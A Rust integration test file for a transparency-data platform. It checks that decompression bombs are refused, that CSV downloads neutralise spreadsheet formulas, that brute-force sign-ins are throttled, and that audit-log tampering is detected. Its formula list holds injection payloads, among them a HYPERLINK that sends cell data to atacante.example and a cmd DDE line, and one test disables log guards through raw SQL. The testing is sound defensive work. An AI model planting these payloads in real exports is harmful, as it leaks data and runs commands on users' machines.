#![allow(clippy::unwrap_used, clippy::expect_used)]
//! What an attacker tries, on every engine: size bombs through every upload path (the
//! publishing form, the publishing API, a dataset resource, and the command line in a child
//! process held to 1 GiB of address space), and spreadsheet formulas through every CSV
//! download.

use crate::common::{TestApp, file_form, login, user};
use std::path::Path;
use std::process::Command;
use tequio_domain::accounts::{Grant, Role};
use tequio_store::audit::Who;
use tequio_store::transparency as tr;

const PASSWORD: &str = "contraseña-larga-1";

/// The issue's four bombs, written once for the whole binary (one holds a GiB, compressed).
fn bombs() -> &'static [(&'static str, Vec<u8>)] {
    static FILES: std::sync::OnceLock<Vec<(&'static str, Vec<u8>)>> = std::sync::OnceLock::new();
    FILES.get_or_init(tequio_testkit::bombs::issue_files)
}

/// What each bomb must be refused with, wherever it comes in.
fn expected(name: &str) -> &'static str {
    match name {
        "celda-en-XFD1048576.xlsx" => "fila 1048576, columna XFD",
        "celda-en-ALL100000.xlsx" => "fila 100000, columna ALL",
        _ => "al descomprimirse",
    }
}

struct World {
    subject: i64,
    /// Obligation 70-VIII (Formato 8).
    viii: i64,
    dataset: &'static str,
}

/// A guarantor with the 2015 framework, a subject, its editor and an empty dataset.
async fn world(app: &TestApp) -> World {
    let db = &app.db;
    let (g, ids) =
        crate::common::guarantor_with_framework(db, &["Universidad Autónoma de Yucatán"], None)
            .await;
    let input = tequio_domain::catalog::DatasetInput {
        name: "nomina".into(),
        title: "Nómina".into(),
        ..Default::default()
    }
    .clean()
    .unwrap();
    let tx = db.begin().await.unwrap();
    tequio_store::catalog::create_dataset(&tx, &Who::system(), ids[0], &input)
        .await
        .unwrap();
    tx.commit().await.unwrap();
    let viii = tr::obligation_by_code(db, g, "70-VIII")
        .await
        .unwrap()
        .unwrap()
        .id;
    user(
        db,
        "editora@uady.test",
        PASSWORD,
        &[Grant::new(Role::SubjectEditor, Some(ids[0])).unwrap()],
    )
    .await;
    World {
        subject: ids[0],
        viii,
        dataset: "nomina",
    }
}

/// The subject's publishing token, made through its page by its editor.
async fn token(app: &TestApp, editor: &reqwest::Client, subject: i64) -> String {
    crate::common::subject_token(app, editor, subject, "Sistema de nómina").await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn size_bombs_are_refused_by_every_upload_and_the_server_lives() {
    for app in crate::common::apps().await {
        let engine = app.t.name;
        let w = world(&app).await;
        let editor = app.browser();
        login(&app, &editor, "editora@uady.test", PASSWORD).await;
        let token = token(&app, &editor, w.subject).await;
        let head = tequio_store::audit::head(&app.db).await.unwrap();
        for (name, bytes) in bombs() {
            let says = expected(name);
            // The publishing form's preview.
            let res = editor
                .post(app.url(&format!(
                    "/sujetos/{}/obligaciones/{}/publicar",
                    w.subject, w.viii
                )))
                .multipart(file_form(name, bytes, &[]))
                .send()
                .await
                .unwrap();
            assert_eq!(res.status(), 422, "{engine}: {name} by the form");
            let html = res.text().await.unwrap();
            assert!(
                html.contains(says),
                "{engine}: {name}: «{says}» not in the page"
            );
            // The publishing API.
            let res = reqwest::Client::new()
                .post(app.url("/api/v1/publications"))
                .bearer_auth(&token)
                .multipart(file_form(name, bytes, &[("obligation", "70-VIII")]))
                .send()
                .await
                .unwrap();
            assert_eq!(res.status(), 422, "{engine}: {name} by the API");
            let problem = res.text().await.unwrap();
            assert!(problem.contains(says), "{engine}: {name}: {problem}");
            // A dataset's resource.
            let res = editor
                .post(app.url(&format!("/datos/{}/recursos/nuevo", w.dataset)))
                .multipart(file_form(name, bytes, &[]))
                .send()
                .await
                .unwrap();
            assert_eq!(res.status(), 422, "{engine}: {name} as a resource");
            let html = res.text().await.unwrap();
            let place = if name.contains("ALL") {
                "columna ALL"
            } else {
                says
            };
            assert!(
                html.contains(place),
                "{engine}: {name}: «{place}» not in the page"
            );
        }
        assert_eq!(
            tequio_store::audit::head(&app.db).await.unwrap(),
            head,
            "{engine}: nothing was saved"
        );
        let res = reqwest::get(app.url("/healthz")).await.unwrap();
        assert_eq!(res.status(), 200, "{engine}: the server still answers");
    }
}

/// Runs `tequio` in a child process held to 1 GiB of address space.
fn tequio_limited(url: &str, data: &Path, args: &[&str]) -> std::process::Output {
    Command::new("sh")
        .arg("-c")
        .arg("ulimit -v 1048576 && exec \"$0\" \"$@\"")
        .arg(env!("CARGO_BIN_EXE_tequio"))
        .args(["--data-dir", &data.display().to_string()])
        .args(args)
        .env("TEQUIO_DATABASE_URL", url)
        .env("TEQUIO_LOG", "warn")
        .output()
        .unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn size_bombs_are_refused_by_the_command_line_within_a_gibibyte() {
    for t in tequio_testkit::databases().await {
        let engine = t.name;
        let app = crate::common::spawn(t).await;
        let w = world(&app).await;
        let dir = tequio_testkit::TempDir::new();
        let head = tequio_store::audit::head(&app.db).await.unwrap();
        for (name, bytes) in bombs() {
            let path = dir.0.join(name);
            std::fs::write(&path, bytes).unwrap();
            let file = path.display().to_string();
            let subject = w.subject.to_string();
            for args in [
                vec![
                    "import",
                    "--subject",
                    &subject,
                    "--obligation",
                    "70-VIII",
                    "--period",
                    "2025-T3",
                    &file,
                ],
                vec!["dataset", "add-file", "--dataset", w.dataset, &file],
            ] {
                let out = tequio_limited(&app.t.url, &dir.0, &args);
                let printed = format!(
                    "{}{}",
                    String::from_utf8_lossy(&out.stdout),
                    String::from_utf8_lossy(&out.stderr)
                );
                // Exit 1 with the reason: not killed by a signal, not aborted (134).
                assert_eq!(
                    out.status.code(),
                    Some(1),
                    "{engine}: {} {name}: {printed}",
                    args[0]
                );
                let says = if args[0] == "dataset" && name.contains("ALL") {
                    "columna ALL"
                } else {
                    expected(name)
                };
                assert!(
                    printed.contains(says),
                    "{engine}: {} {name}: «{says}» not in {printed}",
                    args[0]
                );
            }
        }
        assert_eq!(
            tequio_store::audit::head(&app.db).await.unwrap(),
            head,
            "{engine}: nothing was saved"
        );
    }
}

/// What a spreadsheet would run, as OWASP lists it.
const FORMULAS: [&str; 3] = [
    "=HYPERLINK(\"http://atacante.example/?d=\"&A1,\"Ver\")",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
];

async fn body(client: &reqwest::Client, url: String) -> String {
    let res = client.get(url).send().await.unwrap();
    assert_eq!(res.status(), 200);
    res.text().await.unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn formulas_are_neutralised_in_every_csv_download_and_read_back_exactly() {
    for app in crate::common::apps().await {
        let engine = app.t.name;
        let w = world(&app).await;
        let editor = app.browser();
        login(&app, &editor, "editora@uady.test", PASSWORD).await;
        let token = token(&app, &editor, w.subject).await;
        let public = reqwest::Client::new();

        // A publication whose names hold formulas.
        let f8 = tr::current_formats(&app.db, w.viii)
            .await
            .unwrap()
            .remove(0);
        let period = tequio_domain::transparency::period::Period::parse("2025-T3").unwrap();
        let mut out = csv::Writer::from_writer(Vec::new());
        out.write_record(tequio_domain::transparency::export::csv_header(&f8.def))
            .unwrap();
        for (i, r) in tequio::demo::synthetic::records(&f8.def, period, 3, 7, false)
            .iter()
            .enumerate()
        {
            let mut row = tequio_domain::transparency::export::csv_row(&f8.def, r);
            row[8] = FORMULAS[i].to_owned();
            out.write_record(row).unwrap();
        }
        let publish = |name: &'static str, bytes: Vec<u8>| {
            public
                .post(app.url("/api/v1/publications"))
                .bearer_auth(&token)
                .multipart(file_form(
                    name,
                    &bytes,
                    &[("obligation", "70-VIII"), ("period", "2025-T3")],
                ))
                .send()
        };
        let res = publish("nomina.csv", out.into_inner().unwrap())
            .await
            .unwrap();
        assert_eq!(res.status(), 201, "{engine}");
        let p: serde_json::Value = res.json().await.unwrap();
        let csv_url = app.url(&format!("/publicaciones/{}/registros.csv", p["id"]));
        let safe = body(&public, csv_url.clone()).await;
        let exact = body(&public, format!("{csv_url}?exacto=1")).await;
        for f in FORMULAS {
            let quoted = |s: &str| {
                let mut w = csv::Writer::from_writer(Vec::new());
                w.write_record([s]).unwrap();
                String::from_utf8(w.into_inner().unwrap())
                    .unwrap()
                    .trim_end()
                    .to_owned()
            };
            assert!(
                safe.contains(&format!(",{},", quoted(&format!("'{f}")))),
                "{engine}: {f} not neutralised in registros.csv"
            );
            assert!(
                exact.contains(&format!(",{},", quoted(f))),
                "{engine}: {f} not exact with exacto=1"
            );
        }
        // The neutralised download, published again, is the same content: nothing new.
        let res = publish("registros.csv", safe.into_bytes()).await.unwrap();
        assert_eq!(
            res.status(),
            200,
            "{engine}: the download read back is the same content (same hash)"
        );

        // A resource with formulas, and a numeric column with a negative number.
        let data = format!(
            "clave,monto,concepto\n1,-5,\"{}\"\n2,10,\"{}\"\n3,7,\"{}\"\n",
            FORMULAS[0].replace('"', "\"\""),
            FORMULAS[1],
            FORMULAS[2]
        );
        let res = editor
            .post(app.url(&format!("/datos/{}/recursos/nuevo", w.dataset)))
            .multipart(file_form(
                "pagos.csv",
                data.as_bytes(),
                &[("name", "Pagos")],
            ))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 303, "{engine}");
        let location = res.headers()["location"].to_str().unwrap().to_owned();
        let rid: i64 = location.rsplit('/').next().unwrap().parse().unwrap();
        assert_eq!(
            crate::common::wait_loaded(&app, rid).await.load_status,
            "done",
            "{engine}"
        );
        let datos = body(&public, app.url(&format!("{location}/datos.csv"))).await;
        assert!(datos.contains("1,-5,\"'=HYPERLINK("), "{engine}: {datos}");
        assert!(datos.contains("2,10,'+1+cmd|"), "{engine}: {datos}");
        assert!(datos.contains("3,7,'@SUM(1+1)"), "{engine}: {datos}");
        let exact = body(&public, app.url(&format!("{location}/datos.csv?exacto=1"))).await;
        assert!(exact.contains("1,-5,\"=HYPERLINK("), "{engine}: {exact}");
        let json = body(&public, app.url(&format!("{location}/datos.json"))).await;
        assert!(
            json.contains("\"@SUM(1+1)\""),
            "{engine}: JSON keeps the exact value"
        );
        let records = |extra: &'static str| {
            let url = app.url(&format!(
                "/api/3/action/datastore_search?resource_id={rid}&records_format=csv{extra}"
            ));
            async move {
                let v: serde_json::Value = reqwest::get(url).await.unwrap().json().await.unwrap();
                v["result"]["records"].as_str().unwrap().to_owned()
            }
        };
        let safe = records("").await;
        assert!(safe.contains("3,3,7,'@SUM(1+1)"), "{engine}: {safe}");
        let records = records("&exact=true").await;
        assert!(records.contains("3,3,7,@SUM(1+1)"), "{engine}: {records}");
    }
}

#[tokio::test]
async fn failed_sign_ins_hold_back_unknown_browsers_but_never_the_owner() {
    for app in crate::common::apps().await {
        let engine = app.t.name;
        user(&app.db, "ana@example.mx", PASSWORD, &[]).await;
        let sign_in = |client: &reqwest::Client, password: &'static str| {
            client
                .post(app.url("/entrar"))
                .form(&[("email", "ana@example.mx"), ("password", password)])
                .send()
        };
        // Ana signs in from her own browser once: it gets a device cookie.
        let owner = app.browser();
        assert_eq!(sign_in(&owner, PASSWORD).await.unwrap().status(), 303);
        let res = owner.post(app.url("/salir")).send().await.unwrap();
        assert_eq!(res.status(), 303, "{engine}");

        // Someone else, who knows her address, tries passwords.
        let attacker = app.browser();
        for _ in 0..10 {
            let res = sign_in(&attacker, "no-es-la-clave").await.unwrap();
            assert_eq!(res.status(), 422, "{engine}");
        }
        let held = sign_in(&attacker, PASSWORD).await.unwrap();
        assert_eq!(
            held.status(),
            429,
            "{engine}: unknown browsers are held back"
        );
        let retry: i64 = held.headers()["retry-after"]
            .to_str()
            .unwrap()
            .parse()
            .unwrap();
        assert!((1..=900).contains(&retry), "{engine}: Retry-After {retry}");
        let page = held.text().await.unwrap();
        assert!(
            page.contains("Entra desde un navegador donde ya hayas entrado"),
            "{engine}"
        );

        // Ana still gets in from her browser, with the right password.
        let res = sign_in(&owner, PASSWORD).await.unwrap();
        assert_eq!(res.status(), 303, "{engine}: the owner is never locked out");
        assert_eq!(
            owner.get(app.url("/cuenta")).send().await.unwrap().status(),
            200,
            "{engine}"
        );

        // She was told, once.
        let mails = tequio_store::accounts::list_outbox(&app.db, 50)
            .await
            .unwrap();
        let warnings: Vec<_> = mails
            .iter()
            .filter(|m| m.to_address == "ana@example.mx" && m.subject.contains("intentos"))
            .collect();
        assert_eq!(warnings.len(), 1, "{engine}: one warning e-mail");
        assert!(warnings[0].body.contains("10 veces"), "{engine}");

        // A browser that proves the mailbox (a password reset) is trusted at once.
        let third = app.browser();
        let res = third
            .post(app.url("/contrasena/olvide"))
            .form(&[("email", "ana@example.mx")])
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 200, "{engine}");
        let mails = tequio_store::accounts::list_outbox(&app.db, 50)
            .await
            .unwrap();
        let link = mails
            .iter()
            .find_map(|m| {
                let at = m.body.find("token=")?;
                Some(m.body[at + 6..at + 70].to_owned())
            })
            .unwrap();
        let res = third
            .post(app.url("/contrasena/restablecer"))
            .form(&[("token", link.as_str()), ("password", "otra-frase-larga-2")])
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 200, "{engine}");
        let res = sign_in(&third, "otra-frase-larga-2").await.unwrap();
        assert_eq!(res.status(), 303, "{engine}: the reset browser signs in");
        assert_eq!(
            sign_in(&attacker, "otra-frase-larga-2")
                .await
                .unwrap()
                .status(),
            429,
            "{engine}: the attacker's browser is still held back"
        );

        // The attacker, from the same address, tries other accounts until the address is
        // held back: unknown browsers there wait, Ana's browsers do not.
        let mut statuses = Vec::new();
        for i in 0..45 {
            let email = format!("otra{i}@example.mx");
            let res = attacker
                .post(app.url("/entrar"))
                .form(&[("email", email.as_str()), ("password", "x")])
                .send()
                .await
                .unwrap();
            statuses.push(res.status().as_u16());
        }
        assert!(statuses.ends_with(&[429]), "{engine}: {statuses:?}");
        let res = sign_in(&app.browser(), "otra-frase-larga-2").await.unwrap();
        assert_eq!(
            res.status(),
            429,
            "{engine}: a new browser at that address waits"
        );
        // (The new password ended the trust of her older browsers; the one that reset it is
        // trusted.)
        let res = sign_in(&third, "otra-frase-larga-2").await.unwrap();
        assert_eq!(
            res.status(),
            303,
            "{engine}: a trusted browser is never held back"
        );
    }
}

/// Runs `tequio` (a child process) against a test server's database, off the async workers.
async fn tequio_cli(url: &str, data: &Path, args: &[&str]) -> (Option<i32>, String) {
    let (url, data) = (url.to_owned(), data.to_owned());
    let args: Vec<String> = args.iter().map(|a| (*a).to_owned()).collect();
    tokio::task::spawn_blocking(move || {
        let out = Command::new(env!("CARGO_BIN_EXE_tequio"))
            .args(["--data-dir", &data.display().to_string()])
            .args(&args)
            .env("TEQUIO_DATABASE_URL", url)
            .env("TEQUIO_LOG", "warn")
            .output()
            .unwrap();
        let text = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        (out.status.code(), text)
    })
    .await
    .unwrap()
}

/// Writes `n` changes to the log (new subjects).
async fn some_history(app: &TestApp, n: usize, tag: &str) {
    let tx = app.db.begin().await.unwrap();
    for i in 0..n {
        tequio_store::subjects::create(
            &tx,
            &Who::system(),
            tequio_store::subjects::SubjectInput {
                name: format!("Sujeto {tag} {i}"),
                ..Default::default()
            },
        )
        .await
        .unwrap();
    }
    tx.commit().await.unwrap();
}

async fn sign(app: &TestApp) -> i64 {
    tequio::audit::checkpoints::sign(&app.db, &app.state.audit_key, &app.state.settings.base_url)
        .await
        .unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_witness_catches_a_rewind_and_a_rewritten_history() {
    for app in crate::common::apps().await {
        let engine = app.t.name;
        let dir = tequio_testkit::TempDir::new();
        let kept = dir.0.join("testigo.json");
        let kept_arg = kept.display().to_string();
        let witness = || {
            let url = app.t.url.clone();
            let (dir, base, kept) = (dir.0.clone(), app.base.clone(), kept_arg.clone());
            async move { tequio_cli(&url, &dir, &["witness", &base, "--state", &kept]).await }
        };

        // The key is public, and checkpoints verify with it.
        let key: serde_json::Value = reqwest::get(app.url("/api/v1/audit/key"))
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        assert_eq!(key["public_key"], app.state.audit_key.public_key());

        some_history(&app, 5, "a").await;
        sign(&app).await;
        let (code, said) = witness().await;
        assert_eq!(code, Some(0), "{engine}: {said}");
        assert!(said.contains("first run"), "{engine}: {said}");
        some_history(&app, 5, "b").await;
        sign(&app).await;
        some_history(&app, 1, "c").await;
        sign(&app).await;
        let (code, said) = witness().await;
        assert_eq!(code, Some(0), "{engine}: {said}");
        assert!(
            said.contains("2 new checkpoint(s) checked"),
            "{engine}: {said}"
        );
        let kept_head = tequio_store::audit::head(&app.db).await.unwrap().unwrap();

        // A witness registered here co-signs, and its co-signature is published.
        let witness_key = tequio::signing_key::load_or_create_key(&dir.0).unwrap();
        let tx = app.db.begin().await.unwrap();
        tequio_store::audit::add_witness(
            &tx,
            &Who::system(),
            "Observatorio",
            &witness_key.public_key(),
        )
        .await
        .unwrap();
        tx.commit().await.unwrap();
        sign(&app).await;
        let (code, said) = tequio_cli(
            &app.t.url,
            &dir.0,
            &["witness", &app.base, "--state", &kept_arg, "--cosign"],
        )
        .await;
        assert_eq!(code, Some(0), "{engine}: {said}");
        let latest: serde_json::Value = reqwest::get(app.url("/api/v1/audit/checkpoints/latest"))
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        assert_eq!(
            latest["cosignatures"][0]["witness"], "Observatorio",
            "{engine}"
        );
        let about = reqwest::get(app.url("/acerca"))
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        assert!(
            about.contains(&app.state.audit_key.public_key()) && about.contains("Observatorio"),
            "{engine}: the about page shows the key and the witnesses"
        );

        // Someone with the database rewinds the log by raw SQL, past the guard: first only
        // entries written since the last checkpoint, which the witness saw at its last run.
        let unguard = match engine {
            "sqlite" => "DROP TRIGGER audit_log_no_update; DROP TRIGGER audit_log_no_delete",
            _ => "ALTER TABLE audit_log DISABLE TRIGGER audit_log_no_update",
        };
        app.db.batch(unguard).await.unwrap();
        let rewind = |back_to: i64| {
            let db = app.db.clone();
            async move {
                db.batch(&format!(
                    "DELETE FROM audit_log WHERE seq > {back_to};
                     UPDATE audit_head SET seq = {back_to},
                       hash = (SELECT hash FROM audit_log WHERE seq = {back_to}) WHERE id = 1"
                ))
                .await
                .unwrap();
            }
        };
        some_history(&app, 3, "e").await;
        let (code, said) = witness().await;
        assert_eq!(code, Some(0), "{engine}: {said}");
        let seen = tequio_store::audit::head(&app.db).await.unwrap().unwrap();
        rewind(seen.seq - 2).await;
        let (code, said) = witness().await;
        assert_eq!(code, Some(2), "{engine}: {said}");
        assert!(
            said.contains("REWIND") && said.contains("the head seen at"),
            "{engine}: {said}"
        );
        let before = std::fs::read_to_string(&kept).unwrap();

        // Then past the last signed checkpoint.
        let back_to = kept_head.seq - 4;
        rewind(back_to).await;
        let plain = tequio_cli(&app.t.url, &dir.0, &["verify-log"]).await;
        assert_eq!(
            plain.0,
            Some(0),
            "{engine}: the rewound chain is consistent on its own"
        );
        let (code, said) = witness().await;
        assert_eq!(code, Some(2), "{engine}: {said}");
        assert!(said.contains("REWIND"), "{engine}: {said}");
        assert!(said.contains("Evidence: "), "{engine}: {said}");
        assert_eq!(
            std::fs::read_to_string(&kept).unwrap(),
            before,
            "{engine}: kept as it was"
        );
        let (code, said) =
            tequio_cli(&app.t.url, &dir.0, &["verify-log", "--witness", &kept_arg]).await;
        assert_eq!(code, Some(1), "{engine}: {said}");
        assert!(said.contains("BROKEN"), "{engine}: {said}");

        // ... and writes a new history from there, with hashes recomputed: a fork.
        some_history(&app, 8, "d").await;
        sign(&app).await;
        let (code, said) = witness().await;
        assert_eq!(code, Some(2), "{engine}: {said}");
        assert!(said.contains("FORK"), "{engine}: {said}");
        let (code, said) =
            tequio_cli(&app.t.url, &dir.0, &["verify-log", "--witness", &kept_arg]).await;
        assert_eq!(code, Some(1), "{engine}: {said}");
        assert!(
            said.contains("differs from the saved head"),
            "{engine}: {said}"
        );
    }
}
